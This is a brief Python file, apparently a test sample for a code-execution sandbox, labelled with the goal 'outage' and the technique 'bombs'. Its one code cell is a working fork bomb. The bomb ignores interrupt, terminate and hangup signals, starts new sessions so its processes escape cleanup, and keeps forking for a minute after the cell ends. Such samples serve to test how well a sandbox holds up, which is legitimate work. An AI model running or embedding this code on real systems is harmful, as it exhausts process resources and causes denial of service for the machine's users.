"""Processes that make processes, in sessions of their own, deaf to signals, left behind when the cell ends."""

GOAL = "outage"
TECHNIQUE = "bombs"
CELLS = [
    """
import os, signal, time
def bomb():
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP): signal.signal(number, signal.SIG_IGN)
    end = time.time() + 60
    while time.time() < end:
        try:
            if os.fork() == 0: os.setsid()
        except OSError:
            time.sleep(0.01)
pid = os.fork()
if pid == 0:
    bomb()
    os._exit(0)
""",
]
